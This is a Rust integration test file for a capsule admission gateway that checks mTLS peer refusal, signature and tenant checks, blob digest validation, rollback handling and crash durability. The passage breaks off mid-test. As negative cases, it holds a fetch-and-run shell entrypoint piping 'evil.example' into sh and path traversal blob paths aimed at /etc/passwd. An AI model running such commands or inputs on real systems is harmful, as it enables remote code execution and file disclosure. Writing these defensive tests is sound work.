//! `capsule-gateway serve` end to end, over real TLS 1.3 on loopback with rcgen-made
//! SVIDs: admit and deny answers (the CLI's `--json` fields), peers refused at the
//! handshake, the blob store's digest check, body limits, load shedding, `kill -9`
//! under load, concurrent rising and falling versions, health and metrics, and the
//! embedded development default through the real binary.
//!
//! The in-process tests start `Server` from a `ServeConfig` built here (policy, keys
//! and capsules from `capsule_tests::World`); the crash and default-config tests run
//! the binary. Every client request crosses a real mTLS connection.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsStr;
use std::path::Path;
use std::process::Command;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use attest_testkit::{SvidSpec, TestCa};
use bytes::Bytes;
use capsule_gateway::serve::config::BatchConfig;
use capsule_gateway::serve::Server;
use capsule_gateway::state::State;
use capsule_tests::{b64_json, read_jws, sha256_hex, Signer, HS_KID, RUNNER};
use common::{
    admission_log, chunked, client_config, digest, full, metric, pack_dev_capsule,
    rollback_highest, runtime, versioned_jws, versioned_manifest, Client, Fixture, Gateway,
    GATEWAY_ID, TRUST_DOMAIN,
};
use http::Method;
use serde_json::{json, Value};

const ADMITTED: &str = "capsule_gateway_admissions_total{verdict=\"admit\",reason=\"none\"}";

fn start(config: &capsule_gateway::serve::config::ServeConfig) -> Server {
    Server::start(config).expect("the service starts")
}

fn s(p: &Path) -> &OsStr {
    p.as_os_str()
}

/// The CLI's `verify --json` line for a capsule directory, as `RUNNER`.
fn cli_json(policy: &Path, capsule: &Path) -> Value {
    let out = Command::new(env!("CARGO_BIN_EXE_capsule-gateway"))
        .args([OsStr::new("verify"), OsStr::new("--policy"), s(policy)])
        .args(["--runner", RUNNER, "--json"])
        .arg(capsule)
        .output()
        .expect("run capsule-gateway verify");
    serde_json::from_slice(&out.stdout).expect("one JSON line")
}

fn keys(v: &Value) -> Vec<String> {
    v.as_object().expect("an object").keys().cloned().collect()
}

/// A good capsule is admitted (200) and a tampered one or one signed by a key the
/// tenant may not use is denied (403) with its exact reason; every answer carries the
/// fields of the CLI's `--json` line, in its order, with the same values (`capsule`
/// being the JWS digest). Artifacts come from the blob store only.
#[test]
fn admissions_answer_with_the_cli_decision_fields() {
    let f = Fixture::new();
    let w = &f.world;
    let good = w.good_capsule("good", Signer::Es256);
    let other_key = w.good_capsule("other-key", Signer::Other);
    // The good capsule's header and signature over another manifest (version 8).
    let good_jws = read_jws(&good);
    let parts: Vec<&str> = good_jws.split('.').collect();
    let mut m = w.manifest();
    m["version"] = json!(8);
    let tampered = format!("{}.{}.{}", parts[0], b64_json(&m), parts[2]);
    let tampered = w.capsule_with_jws("tampered", tampered.as_bytes());
    let hs = w.capsule("hs", &versioned_manifest(w, "hs-capsule", 3), Signer::Hs256);
    // The program would be any host program: the armory bypassed.
    let mut shell = w.manifest();
    shell["entrypoint"] = json!(["/bin/bash", "-c", "curl -s https://evil.example/x | sh"]);
    let shell = w.capsule("host-shell", &shell, Signer::Es256);

    let server = start(&f.config());
    let addr = server.local_addr();
    let client = f.client_svid_dir(RUNNER);
    runtime().block_on(async {
        let mut c = Client::connect(addr, client_config(&client, GATEWAY_ID, false))
            .await
            .expect("connect");
        assert_eq!(c.alpn.as_deref(), Some(&b"http/1.1"[..]));

        // Nothing uploaded yet: the capsule's files are not where admissions look.
        let r = c.admit(good_jws.clone()).await.expect("admission");
        assert_eq!(r.status, 403, "{r:?}");
        assert_eq!(r.json()["reason"], "artifact_missing", "{r:?}");

        c.upload_world_files().await;
        let cases = [
            (&good, 200, Value::Null, "admit"),
            (&tampered, 403, json!("signature_invalid"), "deny"),
            (&other_key, 403, json!("tenant_key_mismatch"), "deny"),
            (&shell, 403, json!("tool_not_authorized"), "deny"),
        ];
        for (dir, status, reason, verdict) in cases {
            let body = read_jws(dir);
            let r = c.admit(body.clone()).await.expect("admission");
            assert_eq!(r.status, status, "{dir:?}: {r:?}");
            let got = r.json();
            assert_eq!(got["verdict"], verdict, "{dir:?}: {got}");
            assert_eq!(got["reason"], reason, "{dir:?}: {got}");
            let cli = cli_json(&w.policy_path(), dir);
            assert_eq!(keys(&got), keys(&cli), "same fields, same order");
            for k in keys(&cli).iter().filter(|k| *k != "capsule") {
                assert_eq!(got[k], cli[k], "{dir:?}: field `{k}`");
            }
            assert_eq!(got["capsule"], digest(body.as_bytes()));
            assert_eq!(got["digest"], digest(body.as_bytes()));
        }
        // The same bytes again: admitted again (same version, same digest).
        let r = c.admit(good_jws.clone()).await.expect("admission");
        assert_eq!(r.status, 200, "{r:?}");
        assert_eq!(r.json()["capsule_id"], "auth-token-issuance");
        assert_eq!(r.json()["version"], 7);
        assert_eq!(r.json()["alg"], "ES256");

        // The same service over HTTP/2: an HS256 capsule of another id.
        let mut h2 = Client::connect(addr, client_config(&client, GATEWAY_ID, true))
            .await
            .expect("connect h2");
        assert_eq!(h2.alpn.as_deref(), Some(&b"h2"[..]));
        let r = h2.admit(read_jws(&hs)).await.expect("admission");
        assert_eq!(r.status, 200, "{r:?}");
        let got = r.json();
        assert_eq!(
            (got["verdict"].as_str(), got["kid"].as_str()),
            (Some("admit"), Some(HS_KID))
        );
        assert_eq!(got["alg"], "HS256");
        let cli = cli_json(&w.policy_path(), &hs);
        assert_eq!(got["detail"], cli["detail"]);
    });
    server.shutdown();
}

/// What a refused peer sees: the handshake fails, or (TLS 1.3: the server judges the
/// client's certificate after the client's handshake is done) the first request does.
async fn refused(addr: std::net::SocketAddr, config: Arc<rustls::ClientConfig>) -> String {
    match Client::connect(addr, config).await {
        Err(e) => e,
        Ok(mut c) => match c.get("/healthz").await {
            Ok(r) => panic!("a refused peer got an answer: {r:?}"),
            Err(e) => e,
        },
    }
}

/// No client certificate, an SVID from a CA the gateway does not trust (same
/// trust domain name, another key; and another trust domain), an expired SVID and an
/// SVID whose ID no tenant allows: each is refused by TLS with its own alert, while
/// the same client code with a valid SVID is served. No refused peer reaches HTTP.
#[test]
fn peers_without_a_valid_allowed_svid_are_refused_at_tls() {
    let f = Fixture::new();
    let server = start(&f.config());
    let addr = server.local_addr();
    let valid = f.ca.issue(&SvidSpec::id(RUNNER));
    let impostor_ca = TestCa::new(TRUST_DOMAIN);
    let impostor = impostor_ca.issue(&SvidSpec::id(RUNNER));
    let foreign_ca = TestCa::new("evil.example");
    let foreign = foreign_ca.issue(&SvidSpec::id("spiffe://evil.example/runner/r1"));
    let expired = f.ca.issue(&SvidSpec::id(RUNNER).expired());
    let stranger =
        f.ca.issue(&SvidSpec::id("spiffe://acme.example/intruder/i1"));
    runtime().block_on(async {
        // The control: the very same client construction, with a valid SVID.
        let mut c = Client::connect(addr, f.raw_client_config(Some(&valid)))
            .await
            .expect("a valid SVID connects");
        assert_eq!(c.get("/healthz").await.expect("healthz").status, 200);

        let cases = [
            ("no client certificate", None, "CertificateRequired"),
            // The impostor CA has the real CA's name, so the chain is built to the
            // trusted root and its signature fails (rustls: BadSignature → decrypt_error).
            ("untrusted CA", Some(&impostor), "DecryptError"),
            // Trust domain not in the bundle, and an ID no pattern allows: refused by
            // the SPIFFE verifier (rustls: Other → certificate_unknown).
            ("foreign trust domain", Some(&foreign), "CertificateUnknown"),
            ("expired", Some(&expired), "CertificateExpired"),
            (
                "ID allowed for no tenant",
                Some(&stranger),
                "CertificateUnknown",
            ),
        ];
        for (name, cert, alert) in cases {
            let err = refused(addr, f.raw_client_config(cert)).await;
            assert!(err.contains(alert), "{name}: expected alert {alert}: {err}");
        }
        // Only the control's request was answered.
        let m = c.metrics().await;
        assert_eq!(
            metric(&m, "capsule_gateway_http_responses_total{code=\"200\"}"),
            Some(1.0),
            "{m}"
        );
    });
    server.shutdown();
}

/// A peer allowed to connect (`tls.allowed_peers`) and named by the manifest, but
/// not among the tenant's `runners`, is denied `runner_not_allowed`; a tenant runner is
/// admitted the same capsule. Peers matching neither pattern stay refused at TLS.
#[test]
fn a_connected_peer_outside_the_tenant_runners_is_denied_runner_not_allowed() {
    let f = Fixture::new();
    let mut config = f.config();
    config.tls.allowed_peers = Some(vec![
        "spiffe://acme.example/runner/*".into(),
        "spiffe://acme.example/auditor/*".into(),
    ]);
    let w = &f.world;
    let mut m = versioned_manifest(w, "audited", 2);
    m["runners"] = json!([
        "spiffe://acme.example/runner/*",
        "spiffe://acme.example/auditor/*"
    ]);
    let jws = w.sign(m.to_string().as_bytes(), Signer::Es256);
    let server = start(&config);
    let addr = server.local_addr();
    let auditor = f.client_svid_dir("spiffe://acme.example/auditor/a1");
    let runner = f.client_svid_dir(RUNNER);
    let stranger =
        f.ca.issue(&SvidSpec::id("spiffe://acme.example/intruder/i1"));
    runtime().block_on(async {
        let mut a = Client::connect(addr, client_config(&auditor, GATEWAY_ID, false))
            .await
            .expect("the auditor may connect");
        a.upload_world_files().await;
        let r = a.admit(jws.clone()).await.expect("admission");
        assert_eq!(r.status, 403, "{r:?}");
        let d = r.json();
        assert_eq!(d["reason"], "runner_not_allowed", "{d}");
        let detail = d["detail"].as_str().expect("detail");
        assert!(
            detail.contains("spiffe://acme.example/auditor/a1")
                && detail.contains("not allowed for tenant `acme-payments`"),
            "{detail}"
        );

        let mut r1 = Client::connect(addr, client_config(&runner, GATEWAY_ID, false))
            .await
            .expect("a runner connects");
        let r = r1.admit(jws.clone()).await.expect("admission");
        assert_eq!(r.status, 200, "{r:?}");

        let err = refused(addr, f.raw_client_config(Some(&stranger))).await;
        assert!(err.contains("CertificateUnknown"), "{err}");
    });
    server.shutdown();
}

fn dir_entries(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .expect("read_dir")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// A blob whose bytes do not hash to the digest in its path is refused (400) and
/// leaves nothing behind, streamed or not; malformed blob paths are 400; the right
/// bytes are stored once (201, then 200).
#[test]
fn blob_uploads_store_only_bytes_matching_their_digest() {
    let f = Fixture::new();
    let server = start(&f.config());
    let addr = server.local_addr();
    let client = f.client_svid_dir(RUNNER);
    let (sha_dir, tmp_dir) = (f.blob_dir().join("sha256"), f.blob_dir().join("tmp"));
    let body: Vec<u8> = (0..300_000u32).map(|i| (i % 251) as u8).collect();
    let claimed = sha256_hex(b"some other bytes");
    runtime().block_on(async {
        let mut c = Client::connect(addr, client_config(&client, GATEWAY_ID, false))
            .await
            .expect("connect");
        let path = format!("/v1/blobs/sha256:{claimed}");
        for streamed in [false, true] {
            let b = if streamed {
                chunked(&body, 16 * 1024)
            } else {
                full(body.clone())
            };
            let r = c.request(Method::PUT, &path, b).await.expect("PUT");
            assert_eq!(r.status, 400, "streamed={streamed}: {r:?}");
            let e = r.json()["error"].as_str().expect("error").to_string();
            assert!(
                e.contains(&claimed) && e.contains(&sha256_hex(&body)),
                "{e}"
            );
            assert!(dir_entries(&sha_dir).is_empty(), "nothing stored");
            assert!(dir_entries(&tmp_dir).is_empty(), "no temporary file left");
        }

        let hex = sha256_hex(&body);
        for bad in [
            format!("/v1/blobs/sha256:{}", hex.to_uppercase()),
            format!("/v1/blobs/sha512:{hex}"),
            format!("/v1/blobs/sha256:{}", &hex[1..]),
            format!("/v1/blobs/sha256:{hex}/x"),
            format!("/v1/blobs/{hex}"),
            "/v1/blobs/sha256:../../etc/passwd".to_string(),
            "/v1/blobs/sha256:%2e%2e%2f%2e%2e%2fetc%2fpasswd".to_string(),
        ] {
            // The server need not read a body it refuses, so: a small one, and a
            // fresh connection each time.
            let mut c = Client::connect(addr, client_config(&client, GATEWAY_ID, false))
                .await
                .expect("connect");
            let r = c
                .request(Method::PUT, &bad, full(&b"bytes"[..]))
                .await
                .expect("PUT");
            assert_eq!(r.status, 400, "{bad}: {r:?}");
            assert!(r.json()["error"]
                .as_str()
                .expect("error")
                .contains("blob path"));
        }
        assert!(dir_entries(&sha_dir).is_empty() && dir_entries(&tmp_dir).is_empty());

        let r = c.put_blob(&body).await.expect("PUT");
        assert_eq!(r.status, 201, "{r:?}");
        assert_eq!(
            r.json(),
            json!({"digest": format!("sha256:{hex}"), "size": body.len(), "stored": true})
        );
        assert_eq!(
            std::fs::read(sha_dir.join(&hex)).expect("stored blob"),
            body
        );
        // Regression: a present blob was answered without its body being read, and
        // hyper then closed the connection under a client still sending it (HTTP/1.1:
        // "Broken pipe" instead of the 200). Re-uploading is what a client retries.
        for streamed in [false, true] {
            let b = if streamed {
                chunked(&body, 16 * 1024)
            } else {
                full(body.clone())
            };
            let r = c
                .request(Method::PUT, &format!("/v1/blobs/sha256:{hex}"), b)
                .await
                .expect("PUT of a present blob");
            assert_eq!(r.status, 200, "{r:?}");
            assert_eq!(r.json()["stored"], false);
        }
        assert_eq!(dir_entries(&sha_dir), vec![hex]);
        assert!(dir_entries(&tmp_dir).is_empty());
    });
    server.shutdown();
}

/// An admission body over the policy's `max_jws_bytes` (plus the tolerated
/// newline) and a blob over `limits.max_blob_bytes` are 413, whether the length is
/// announced or not; at the limit they are not, and an oversized blob stores nothing.
#[test]
fn oversized_bodies_are_refused_with_413() {
    let f = Fixture::new();
    let mut config = f.config();
    config.limits.max_blob_bytes = 4096;
    let max_jws = f.world.policy().limits.max_jws_bytes;
    let server = start(&config);
    let addr = server.local_addr();
    let client = f.client_svid_dir(RUNNER);
    let (sha_dir, tmp_dir) = (f.blob_dir().join("sha256"), f.blob_dir().join("tmp"));
    runtime().block_on(async {
        let cfg = client_config(&client, GATEWAY_ID, false);
        // A fresh connection per refusal: the server need not read what it refuses.
        for streamed in [false, true] {
            let big = vec![b'a'; max_jws + 2];
            let b = if streamed {
                chunked(&big, 8 * 1024)
            } else {
                full(big)
            };
            let mut c = Client::connect(addr, cfg.clone()).await.expect("connect");
            let r = c
                .request(Method::POST, "/v1/admissions", b)
                .await
                .expect("POST");
            assert_eq!(r.status, 413, "streamed={streamed}: {r:?}");
        }
        // At the limit (a JWS of max_jws bytes and a newline) the verifier decides.
        let mut c = Client::connect(addr, cfg.clone()).await.expect("connect");
        let mut at_limit = vec![b'a'; max_jws];
        at_limit.push(b'\n');
        let r = c.admit(at_limit).await.expect("POST");
        assert_eq!(r.status, 403, "{r:?}");
        assert_eq!(r.json()["reason"], "malformed_jws", "{r:?}");

        let blob: Vec<u8> = (0..4097u32).map(|i| (i % 7) as u8).collect();
        let path = format!("/v1/blobs/sha256:{}", sha256_hex(&blob));
        for streamed in [false, true] {
            let b = if streamed {
                chunked(&blob, 1000)
            } else {
                full(blob.clone())
            };
            let mut c = Client::connect(addr, cfg.clone()).await.expect("connect");
            let r = c.request(Method::PUT, &path, b).await.expect("PUT");
            assert_eq!(r.status, 413, "streamed={streamed}: {r:?}");
            assert!(dir_entries(&sha_dir).is_empty() && dir_entries(&tmp_dir).is_empty());
        }
        let mut c = Client::connect(addr, cfg).await.expect("connect");
        let r = c.put_blob(&blob[..4096]).await.expect("PUT");
        assert_eq!(r.status, 201, "{r:?}");
    });
    server.shutdown();
}

/// With a queue of one and batches of one, a burst of concurrent admissions over
/// HTTP/2 is partly shed: every 503 carries Retry-After, every other answer is a
/// correct, recorded admission, the metrics count exactly what was shed and admitted,
/// the queue drains, and the service serves again afterwards.
#[test]
fn a_full_queue_sheds_with_503_while_admitted_requests_complete() {
    let f = Fixture::new();
    let mut config = f.config();
    config.batch = BatchConfig {
        max_size: 1,
        max_wait_us: 0,
        queue: 1,
        threads: 1,
    };
    let jws = read_jws(&f.world.good_capsule("good", Signer::Es256));
    let server = start(&config);
    let addr = server.local_addr();
    let client = f.client_svid_dir(RUNNER);
    let (admitted, shed) = runtime().block_on(async {
        let cfg = client_config(&client, GATEWAY_ID, true);
        let mut conns = Vec::new();
        for _ in 0..4 {
            let c = Client::connect(addr, cfg.clone()).await.expect("connect");
            assert_eq!(c.alpn.as_deref(), Some(&b"h2"[..]));
            conns.push(c);
        }
        conns[0].upload_world_files().await;
        let (mut admitted, mut shed) = (0u64, 0u64);
        // One burst is normally plenty; a few more only if the machine was idle enough
        // to keep up with the first.
        for _ in 0..5 {
            let mut tasks = tokio::task::JoinSet::new();
            for i in 0..240 {
                let mut c = conns[i % conns.len()].stream();
                let body = Bytes::from(jws.clone());
                tasks.spawn(async move { c.admit(body).await.expect("an answer") });
            }
            while let Some(r) = tasks.join_next().await {
                let r = r.expect("task");
                match r.status {
                    200 => {
                        let d = r.json();
                        assert_eq!(d["verdict"], "admit", "{d}");
                        assert_eq!(d["reason"], Value::Null, "{d}");
                        assert_eq!(d["digest"], digest(jws.as_bytes()), "{d}");
                        assert_eq!(
                            (d["capsule_id"].as_str(), d["version"].as_u64()),
                            (Some("auth-token-issuance"), Some(7))
                        );
                        admitted += 1;
                    }
                    503 => {
                        let retry = r.headers.get(http::header::RETRY_AFTER);
                        assert_eq!(retry.and_then(|v| v.to_str().ok()), Some("1"), "{r:?}");
                        assert!(r.json()["error"].as_str().is_some(), "{r:?}");
                        shed += 1;
                    }
                    _ => panic!("neither admitted nor shed: {r:?}"),
                }
            }
            if shed > 0 {
                break;
            }
        }
        eprintln!("queue-full: {admitted} admitted, {shed} shed");
        assert!(shed > 0, "a queue of one never filled");
        assert!(admitted > 0, "nothing was admitted");

        let m = conns[0].metrics().await;
        let shed_metric = metric(&m, "capsule_gateway_admissions_shed_total");
        assert_eq!(shed_metric, Some(shed as f64), "{m}");
        assert_eq!(metric(&m, ADMITTED), Some(admitted as f64), "{m}");
        assert_eq!(metric(&m, "capsule_gateway_queue_depth"), Some(0.0), "{m}");
        let r503 = metric(&m, "capsule_gateway_http_responses_total{code=\"503\"}");
        assert_eq!(r503, Some(shed as f64), "{m}");

        // Once the burst is over the service admits again.
        let r = conns[0].admit(jws.clone()).await.expect("admission");
        assert_eq!(r.status, 200, "{r:?}");
        (admitted + 1, shed)
    });
    server.shutdown();
    // Every 200 is a durable record; no 503 left one.
    let state = State::open(&f.state_dir(), false, &verify_core::SystemClock)
        .expect("open state")
        .expect("state exists");
    assert_eq!(
        state.verify_log().expect("intact chain"),
        admitted,
        "shed {shed}"
    );
}

/// One admission as the client saw it.
#[derive(Debug, Clone)]
struct Seen {
    version: u64,
    status: u16,
    decision: Value,
    sent: Instant,
    answered: Instant,
}

/// `kill -9` of the real binary under concurrent load of rising versions, then a
/// restart on the same state: every version acknowledged with 200 before the kill is
/// in the hash-chained log, every acknowledged version below the highest acknowledged
/// one is denied `rollback`, and the service works on.
#[test]
fn kill_9_under_load_loses_no_acknowledged_admission() {
    let f = Fixture::new();
    let w = &f.world;
    let config = f.write_config("[batch]\nmax_size = 8\n");
    const FIRST: u64 = 2;
    const LAST: u64 = 201;
    let jws: Arc<BTreeMap<u64, String>> = Arc::new(
        (FIRST..=LAST)
            .map(|v| (v, versioned_jws(w, "crash-test", v)))
            .collect(),
    );
    let client = f.client_svid_dir(RUNNER);
    let cfg = client_config(&client, GATEWAY_ID, false);
    let rt = runtime();

    let mut gateway = Gateway::serve(&[OsStr::new("--config"), s(&config)]);
    let acked: Vec<Seen> = rt.block_on(async {
        let addr = gateway.addr;
        Client::connect(addr, cfg.clone())
            .await
            .expect("connect")
            .upload_world_files()
            .await;
        let next = Arc::new(AtomicU64::new(FIRST));
        let seen = Arc::new(Mutex::new(Vec::<Seen>::new()));
        let mut tasks = tokio::task::JoinSet::new();
        for _ in 0..6 {
            let mut c = Client::connect(addr, cfg.clone()).await.expect("connect");
            let (next, seen, jws) = (next.clone(), seen.clone(), jws.clone());
            tasks.spawn(async move {
                loop {
                    let v = next.fetch_add(1, Ordering::SeqCst);
                    let Some(body) = jws.get(&v) else { return };
                    let sent = Instant::now();
                    // A transport error (the kill) ends this connection's load.
                    let Ok(r) = c.admit(body.clone()).await else {
                        return;
                    };
                    let s = Seen {
                        version: v,
                        status: r.status,
                        decision: r.json(),
                        sent,
                        answered: Instant::now(),
                    };
                    seen.lock().expect("lock").push(s);
                }
            });
        }
        // Kill while requests are in flight, once a fair number were acknowledged.
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            let acks = seen
                .lock()
                .expect("lock")
                .iter()
                .filter(|s| s.status == 200)
                .count();
            if acks >= 25 {
                break;
            }
            assert!(
                Instant::now() < deadline,
                "too few admissions before the kill"
            );
            tokio::time::sleep(Duration::from_millis(2)).await;
        }
        gateway.kill9();
        while tasks.join_next().await.is_some() {}
        let seen = seen.lock().expect("lock").clone();
        let acks = seen.iter().filter(|s| s.status == 200).count();
        eprintln!(
            "kill -9: {} answered before the kill ({acks} admitted), {} versions sent",
            seen.len(),
            next.load(Ordering::SeqCst) - FIRST
        );
        assert!(
            (seen.len() as u64) < LAST - FIRST + 1,
            "the kill came after the load was over"
        );
        for s in &seen {
            assert!(
                s.status == 200 || s.decision["reason"] == "rollback",
                "only admissions and rollbacks expected: {s:?}"
            );
        }
        seen.into_iter().filter(|s| s.status == 200).collect()
    });
    let highest = acked.iter().map(|s| s.version).max().expect("acknowledged");
    let sent_max = LAST;

    let mut gateway = Gateway::serve(&[OsStr::new("--config"), s(&config)]);
    rt.block_on(async {
        let mut c = Client::connect(gateway.addr, cfg.clone())
            .await
            .expect("connect after the restart");
        for s in acked.iter().filter(|s| s.version < highest) {
            let r = c.admit(jws[&s.version].clone()).await.expect("admission");
            assert_eq!(r.status, 403, "v{} after restart: {r:?}", s.version);
            let d = r.json();
            assert_eq!(d["reason"], "rollback", "{d}");
            let y = rollback_highest(d["detail"].as_str().expect("detail"));
            assert!(y.is_some_and(|y| y >= highest), "{d}");
        }
        // The highest acknowledged version is the recorded one, or a higher one was
        // recorded just before the kill without its answer getting out.
        let r = c.admit(jws[&highest].clone()).await.expect("admission");
        if r.status != 200 {
            let d = r.json();
            assert_eq!(d["reason"], "rollback", "{d}");
            let y = rollback_highest(d["detail"].as_str().expect("detail"));
            assert!(y.is_some_and(|y| y > highest), "{d}");
        }
        let fresh = versioned_jws(w, "crash-test", sent_max + 1);
        let r = c.admit(fresh).await.expect("admission");
        assert_eq!(r.status, 200, "the restarted service admits: {r:?}");
    });
    assert!(gateway.terminate().success(), "{}", gateway.stderr());

    let state = State::open(&f.state_dir(), false, &verify_core::SystemClock)
        .expect("open state")
        .expect("state exists");
    let records = state.verify_log().expect("an intact hash chain");
    // At least the acknowledged ones and the one after the restart.
    assert!(
        records > acked.len() as u64,
        "{records} records, {} acked",
        acked.len()
    );
    drop(state);
    // Denials (the rollbacks) are logged too: the admissions are the `admit` records.
    let log: BTreeSet<(u64, String)> = admission_log(&f.state_dir())
        .iter()
        .filter(|r| r["kind"] == "admit")
        .map(|r| {
            let v = r["version"].as_u64().expect("version");
            (v, r["capsule_digest"].as_str().expect("digest").to_string())
        })
        .collect();
    for s in &acked {
        let d = digest(jws[&s.version].as_bytes());
        assert!(
            log.contains(&(s.version, d)),
            "acknowledged v{} is not in the log",
            s.version
        );
    }
}

/// Many concurrent admissions of one capsule id, versions rising and falling at
/// once (batched together and across batches): the highest is admitted and recorded;
/// every other answer is 200 or `rollback`, and is consistent with what
/// `State::record`'s in-transaction re-check guarantees — each denial names an
/// admitted higher version, no version is admitted once a higher one's 200 had been
/// received before it was sent, and the log's versions never go down.
#[test]
fn concurrent_rising_and_falling_versions_leave_the_highest_recorded() {
    const N: u64 = 64;
    let f = Fixture::new();
    let w = &f.world;
    let jws: Arc<BTreeMap<u64, String>> =
        Arc::new((1..=N).map(|v| (v, versioned_jws(w, "racy", v))).collect());
    let server = start(&f.config());
    let addr = server.local_addr();
    let client = f.client_svid_dir(RUNNER);
    let seen: Vec<Seen> = runtime().block_on(async {
        let mut conns = Vec::new();
        for h2 in [true, true, false, false] {
            let cfg = client_config(&client, GATEWAY_ID, h2);
            conns.push(Client::connect(addr, cfg).await.expect("connect"));
        }
        conns[0].upload_world_files().await;
        // 1, N, 2, N-1, ...: a rising and a falling sequence interleaved.
        let order: Vec<u64> = (1..=N / 2).flat_map(|i| [i, N + 1 - i]).collect();
        let mut tasks = tokio::task::JoinSet::new();
        let mut h1: Vec<_> = conns
            .drain(2..)
            .map(|c| Arc::new(tokio::sync::Mutex::new(c)))
            .collect();
        for (i, v) in order.into_iter().enumerate() {
            let body = jws[&v].clone();
            let delay = Duration::from_micros((v * 397) % 3000);
            // Each sequence goes over one HTTP/2 and one HTTP/1.1 connection.
            let (use_h2, n) = [(true, 0), (false, 0), (false, 1), (true, 1)][i % 4];
            let h2 = use_h2.then(|| conns[n].stream());
            let h1 = h1[n].clone();
            tasks.spawn(async move {
                tokio::time::sleep(delay).await;
                let (r, sent) = match h2 {
                    Some(mut c) => {
                        let sent = Instant::now();
                        (c.admit(body).await, sent)
                    }
                    None => {
                        let mut c = h1.lock().await;
                        let sent = Instant::now();
                        (c.admit(body).await, sent)
                    }
                };
                let r = r.expect("an answer");
                Seen {
                    version: v,
                    status: r.status,
                    decision: r.json(),
                    sent,
                    answered: Instant::now(),
                }
            });
        }
        let mut seen = Vec::new();
        while let Some(s) = tasks.join_next().await {
            seen.push(s.expect("task"));
        }
        h1.clear();

        // Afterwards: the highest stays, lower versions are rollbacks.
        let mut c = conns.remove(0);
        let r = c.admit(jws[&(N - 1)].clone()).await.expect("admission");
        assert_eq!(r.status, 403, "{r:?}");
        assert_eq!(r.json()["reason"], "rollback");
        assert_eq!(
            rollback_highest(r.json()["detail"].as_str().expect("detail")),
            Some(N)
        );
        let r = c.admit(jws[&N].clone()).await.expect("admission");
        assert_eq!(r.status, 200, "the same bytes again are admitted: {r:?}");
        seen
    });
    server.shutdown();

    let admitted: BTreeSet<u64> = seen
        .iter()
        .filter(|s| s.status == 200)
        .map(|s| s.version)
        .collect();
    eprintln!(
        "rising/falling: admitted {admitted:?} of {N}; {} rollbacks",
        seen.len() - admitted.len()
    );
    assert!(
        admitted.contains(&N),
        "the highest version was not admitted: {seen:?}"
    );
    assert!(
        admitted.len() < seen.len(),
        "no rollback was exercised: {admitted:?}"
    );
    for s in &seen {
        match s.status {
            200 => assert_eq!(s.decision["verdict"], "admit"),
            403 => {
                assert_eq!(s.decision["reason"], "rollback", "{s:?}");
                let y = rollback_highest(s.decision["detail"].as_str().expect("detail"))
                    .unwrap_or_else(|| panic!("a rollback names the higher version: {s:?}"));
                assert!(y > s.version && admitted.contains(&y), "{s:?}");
            }
            _ => panic!("unexpected answer: {s:?}"),
        }
    }
    for a in seen.iter().filter(|s| s.status == 200) {
        for b in seen
            .iter()
            .filter(|s| s.status == 200 && s.version > a.version)
        {
            assert!(
                b.answered > a.sent,
                "v{} was admitted though v{} had been acknowledged before it was sent",
                a.version,
                b.version
            );
        }
    }

    let state = State::open(&f.state_dir(), false, &verify_core::SystemClock)
        .expect("open state")
        .expect("state exists");
    let records = state.verify_log().expect("an intact hash chain");
    // One record per answer: an `admit` per 200, a `deny` per rollback.
    assert_eq!(records, seen.len() as u64 + 2, "one record per answer");
    drop(state);
    let log = admission_log(&f.state_dir());
    let denials = log.iter().filter(|r| r["kind"] == "deny").count();
    assert_eq!(
        denials,
        seen.len() - admitted.len() + 1,
        "one deny per rollback"
    );
    let versions: Vec<u64> = log
        .iter()
        .filter(|r| r["kind"] == "admit")
        .map(|r| r["version"].as_u64().expect("version"))
        .collect();
    assert_eq!(versions.len(), admitted.len() + 1, "one admit per 200");
    assert!(
        versions.windows(2).all(|p| p[0] <= p[1]),
        "recorded versions went down: {versions:?}"
    );
    let logged: BTreeSet<u64> = versions.iter().copied().collect();
    assert_eq!(logged, admitted);
}

/// `/healthz` and `/readyz` answer 200, and `/metrics` counts admissions by verdict
/// and reason exactly.
#[test]
fn health_readiness_and_admission_metrics() {
    let f = Fixture::new();
    let good = read_jws(&f.world.good_capsule("good", Signer::Es256));
    let other = read_jws(&f.world.good_capsule("other", Signer::Other));
    let server = start(&f.config());
    let addr = server.local_addr();
    let client = f.client_svid_dir(RUNNER);
    runtime().block_on(async {
        let mut c = Client::connect(addr, client_config(&client, GATEWAY_ID, false))
            .await
            .expect("connect");
        let r = c.get("/healthz").await.expect("healthz");
        assert_eq!((r.status, r.text().as_str()), (200, "ok\n"));
        let r = c.get("/readyz").await.expect("readyz");
        assert_eq!((r.status, r.text().as_str()), (200, "ready\n"));
        let r = c
            .request(Method::POST, "/healthz", full(Bytes::new()))
            .await
            .expect("POST /healthz");
        assert_eq!(r.status, 405);
        assert_eq!(c.get("/nowhere").await.expect("GET").status, 404);

        let m = c.metrics().await;
        assert_eq!(metric(&m, ADMITTED), None, "{m}");
        c.upload_world_files().await;
        for _ in 0..3 {
            assert_eq!(c.admit(good.clone()).await.expect("admission").status, 200);
        }
        assert_eq!(c.admit(other.clone()).await.expect("admission").status, 403);
        let m = c.metrics().await;
        assert_eq!(metric(&m, ADMITTED), Some(3.0), "{m}");
        let denied =
            "capsule_gateway_admissions_total{verdict=\"deny\",reason=\"tenant_key_mismatch\"}";
        assert_eq!(metric(&m, denied), Some(1.0), "{m}");
        let latency = "capsule_gateway_admission_latency_seconds_count";
        assert_eq!(metric(&m, latency), Some(4.0), "{m}");
        assert_eq!(
            metric(&m, "capsule_gateway_admissions_shed_total"),
            Some(0.0)
        );
        assert_eq!(metric(&m, "capsule_gateway_connections"), Some(1.0), "{m}");
    });
    server.shutdown();
}

/// `serve` with no `--config`: the binary creates the development trust domain
/// under `--state-dir`, says so and that it is not for production, and admits a
/// capsule packed (`capsule-gateway pack`) from `examples/dev-capsule` with the dev
/// signing key, for the dev client SVID. A restart reuses the domain and the state.
#[test]
fn the_embedded_default_admits_a_dev_capsule_through_the_binary() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let state = tmp.path().join("state");
    let args = [
        OsStr::new("--state-dir"),
        s(&state),
        OsStr::new("--listen"),
        OsStr::new("127.0.0.1:0"),
    ];
    let mut gateway = Gateway::serve(&args);
    let log = gateway.stderr();
